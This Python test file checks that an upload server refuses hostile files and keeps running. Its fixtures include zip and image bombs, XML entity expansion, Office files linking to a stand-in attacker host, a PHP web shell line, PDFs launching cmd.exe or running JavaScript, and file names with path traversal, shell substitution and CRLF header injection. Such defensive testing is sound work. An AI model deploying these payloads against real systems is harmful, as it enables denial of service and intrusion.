"""Files made to hurt whoever opens them (security 3.8, abuse case 19): each is refused or made safe,
the server lives on, and the next request works."""
import base64
import io
import os
import struct
import zipfile
import zlib

from files_story import FilesStory, chunk, docx, png

RELATIONS = ('<a:Relationships xmlns:a="r"><a:Relationship Id="1" Type="http://r/{kind}" '
             'Target="http://attacker.invalid/x" TargetMode="External"/></a:Relationships>')
ENTITIES = ('<!DOCTYPE a [<!ENTITY a "{0}">' + "".join(
    f'<!ENTITY {new} "{("&" + old + ";") * 10}">' for old, new in zip("abcdefgh", "bcdefghi"))
    + ']><a>&i;</a>').format("ha" * 20)


def archive(parts, method=zipfile.ZIP_DEFLATED):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", method) as made:
        for name, data in parts:
            made.writestr(name, data)
    return memory.getvalue()


def xlsx(*more):
    return archive([("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>" * 50),
                    *more])


def lying_archive():
    """Says of itself that a part of 40 MB has ten bytes."""
    bytes_ = bytearray(docx(word__a_dot_bin=b"\0" * 40_000_000))
    for mark, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = bytes_.rfind(mark)
        bytes_[at + place:at + place + 4] = struct.pack("<I", 10)
    return bytes(bytes_)


def nested(depth):
    inner = b"0" * 1000
    for level in range(depth):
        inner = archive([(f"{level}.zip", inner)])
    return inner


def png_of(width, height):
    """Only the head is there: whoever makes room for it first is lost."""
    return (b"\x89PNG\r\n\x1a\n"
            + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b""))


def png_bomb():
    """81 million white points in 100 KB: allowed, decoded in the sandbox."""
    rows = zlib.compress((b"\0" + b"\xff" * 9000) * 9000, 9)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 9000, 9000, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))


def jpeg_of(width, height, rest=b""):
    frame = b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + frame + rest


def webp_of(width, height):
    frame = b"\x9d\x01\x2a" + struct.pack("<HH", width, height)
    body = b"WEBPVP8 " + struct.pack("<I", 20) + b"\x10\x00\x00" + frame + b"\0" * 10
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdf(inside):
    return b"%PDF-1.4\n1 0 obj<<" + inside + b">>endobj\ntrailer<<>>\n%%EOF\n"


PICTURES = [
    ("anh.png", png_of(100_000, 100_000)), ("anh.png", png_of(2**31 - 1, 2**31 - 1)),
    ("anh.png", png_of(0, 1)), ("anh.png", png()[:60]), ("anh.png", b"\x89PNG\r\n\x1a\n"),
    ("anh.jpg", jpeg_of(65_000, 65_000)), ("anh.jpg", jpeg_of(10, 10)), ("anh.jpg", b"\xff\xd8\xff"),
    ("anh.jpg", jpeg_of(10, 10, b"\xff\xda" + os.urandom(50_000))),
    ("anh.jpg", jpeg_of(65_000, 1_500, b"\xff\xc4\x00\x02" * 2_000 + b"\xff\xd9")),
    ("anh.webp", webp_of(16_383, 16_383)), ("anh.webp", webp_of(1, 1)),
    ("anh.webp", b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff\x2f" + b"\xff" * 100),
]
POLYGLOTS = [
    ("anh.png", png() + pdf(b"")), ("anh.png", png() + archive([("a.class", b"\xca\xfe\xba\xbe")])),
    ("anh.jpg", b"\xff\xd8\xff\xe1\x00\x20<svg onload=alert(1)>" + b"\0" * 20),
    ("don.pdf", b"%PDF-1.4\n<html><script>alert(1)</script>\n%%EOF"),
    ("don.pdf", archive([("a", "b")], zipfile.ZIP_STORED) + b"%PDF-1.4\n%%EOF"),
    ("don.txt", b"<?php system($_GET['c']); ?>"), ("don.txt", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0"),
    ("am.wav", b"RIFF\x24\0\0\0WAVEfmt " + archive([("a", "b")])),
    ("phim.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 8 + b"<script>alert(1)</script>"),
]
ARCHIVES = [
    ("don.docx", lying_archive()), ("don.docx", docx(word__media__a_dot_bin=nested(9))),
    ("don.docx", docx(word___rels__settings_dot_xml_dot_rels=RELATIONS.format(
        kind="attachedTemplate"))),
    ("don.docx", docx(word___rels__document_dot_xml_dot_rels=RELATIONS.format(kind="oleObject"))),
    ("don.docx", docx(customXml__item_dot_xml=ENTITIES)),
    ("bang.xlsx", xlsx(("xl/externalLinks/_rels/externalLink1.xml.rels",
                        RELATIONS.format(kind="externalLinkPath")))),
    ("bang.xlsx", xlsx(("xl/sharedStrings.xml", ENTITIES))),
    ("bang.xlsx", xlsx(("xl/worksheets/sheet1.xml", "<row>" + '<c r="ALLP1"/>' * 1_000_000 + "</row>"))),
    ("bang.xlsx", xlsx(*((f"xl/{i}.xml", "<a/>") for i in range(1_000)))),
    ("bang.xlsx", xlsx(("xl/vbaProject.bin", b"x"))),
    ("bang.xlsx", xlsx(("/etc/passwd", b"x"))), ("bang.xlsx", xlsx(("..\\..\\run.bat", b"x"))),
    ("bang.xlsx", b"PK\3\4" + b"xl/workbook.xml" * 1000 + b"PK\5\6" + b"\xff" * 18),
]
PAPERS = [
    ("don.pdf", pdf(b"/OpenAction<</S/J#61vaScript/J#53 (app.alert(1))>>")),
    ("don.pdf", pdf(b"/AA<</O<</S/JavaScript/JS<6170702e>>>>>")),
    ("don.pdf", pdf(b"/A<</S/Launch/F(cmd.exe)>>")), ("don.pdf", pdf(b"/Names<</EmbeddedFiles 2 0 R>>")),
    ("don.pdf", pdf(b"/AcroForm<</XFA 3 0 R>>")), ("don.pdf", pdf(b"/A<</S/SubmitForm/F(http://a)>>")),
    ("don.pdf", b"%PDF-1.7\n" + b"[" * 1_000_000),
]


class HostileFiles(FilesStory):
    def setUp(self):
        self.user = self.server.sign_in("tuvan1")
        self.file_record = self.record(self.user)

    def refused_all(self, files):
        """Each is refused, its bytes are gone, the same process goes on."""
        process = self.server.process.pid
        for index, (name, data) in enumerate(files):
            with self.subTest(index=index, name=name):
                file = self.upload(self.user, self.file_record, name, data)
                self.assertEqual(file["state"], "refused")
                self.assertNotIn(file["refusal"], (None, "examination_failed"), file)
                self.content(self.user, file["id"], "?copy=original&reason=evidence").refused(
                    409, "file.not_ready")
        self.assertIsNone(self.server.process.poll())
        self.assertEqual(self.server.process.pid, process)
        fine = self.upload(self.user, self.file_record, "anh.png", png())
        self.assertEqual(fine["state"], "ready")
        self.user.request("GET", "//readyz").expect(200)

    def test_pictures_that_lie_about_themselves_are_refused(self):
        self.refused_all(PICTURES)

    def test_a_large_picture_in_few_bytes_is_drawn_anew_or_refused(self):
        file = self.upload(self.user, self.file_record, "anh.png", png_bomb())
        self.assertIn(file["state"], ("ready", "refused"))
        self.refused_all([])

    def test_files_with_two_faces_are_refused(self):
        self.refused_all(POLYGLOTS)

    def test_archives_that_are_traps_or_reach_out_are_refused(self):
        self.refused_all(ARCHIVES)

    def test_papers_that_run_something_are_refused(self):
        self.refused_all(PAPERS)

    def test_no_name_is_a_path_a_command_or_another_header(self):
        for name, kept in [
                ("../../../../etc/cron.d/anh.png", "anh.png"), ("..\\..\\anh.png", "anh.png"),
                ("gnp.\u202egnp.exe.png", "gnp.gnp.exe.png"), ("anh\u2028\u061c\u2060.png", "anh.png"),
                ('anh"; filename="x.html.png', 'anh"; filename="x.html.png'),
                ("$(reboot)`id`;|&.png", "$(reboot)`id`;|&.png"), ("-rf.png", "-rf.png"),
                ("C:con.png", "C:con.png"),
                ("anh\r\nSet-Cookie: x=1.png", "anhSet-Cookie: x=1.png")]:
            with self.subTest(name=name):
                photo = png()
                file = self.begin(self.user, self.file_record, name, len(photo)).expect(201)
                self.assertEqual(file["name"], kept)
                self.part(self.user, file["id"], 1, photo).expect(200)
                self.assertEqual(self.settled(self.user, file["id"])["state"], "ready")
                answer = self.content(self.user, file["id"])
                answer.expect(200)
                field = answer.headers["Content-Disposition"]
                self.assertEqual(field.count('"'), 2)
                self.assertTrue(field.startswith("attachment; ") and field.isascii(), field)
        for name in ("\x00.png", "a\x1b[2J.png"):
            self.begin(self.user, self.file_record, name, 9).expect(400)

    def test_parts_that_do_not_fit_what_was_announced_are_refused(self):
        file = self.begin(self.user, self.file_record, "anh.png", 100).expect(201)["id"]
        for number, data in ((1, b"x" * 101), (1, b"x" * 99), (0, b"x"), (2, b"x"),
                             (10**18, b"x"), (1, b"")):
            answer = self.part(self.user, file, number, data)
            self.assertIn(answer.status, (400, 404, 409), (number, answer.bytes))
        self.part(self.user, file, 1, b"x" * (2 << 20), check=False)  # above every limit
        self.part(self.user, file, 1, b"x" * 100).expect(200)
        self.assertEqual(self.settled(self.user, file)["state"], "refused")
        self.refused_all([])


class HostileTemplates(FilesStory):
    # A template is what every paper of the country is written into.
    def test_templates_that_run_something_or_reach_out_are_refused(self):
        user = self.server.sign_in("quantri")
        for data, code in [
                (docx(word__vbaProject_dot_bin=b"x"), "macro"),
                (docx(word___rels__settings_dot_xml_dot_rels=RELATIONS.format(kind="image")),
                 "external_link"),
                (docx(word__embeddings__a_dot_bin=b"x"), "embedded_object"),
                (docx(word__settings_dot_xml=ENTITIES), "damaged"),
                (docx(word__a_dot_xml=b" " * 30_000_000), "archive_too_large"),
                (lying_archive(), "embedded_object"), (b"PK\3\4", "damaged"),
                (nested(3), "embedded_object"), (xlsx(), "not_word")]:
            with self.subTest(code=code):
                answer = user.post("/paper-templates", {
                    "kind": "", "valid_from": "2026-03-02",
                    "content": base64.b64encode(data).decode()})
                self.assertIn(answer.refused(400, "request.invalid").get("content"),
                              (code, "damaged", "archive_too_large"))
        user.get("/paper-templates").expect(200)
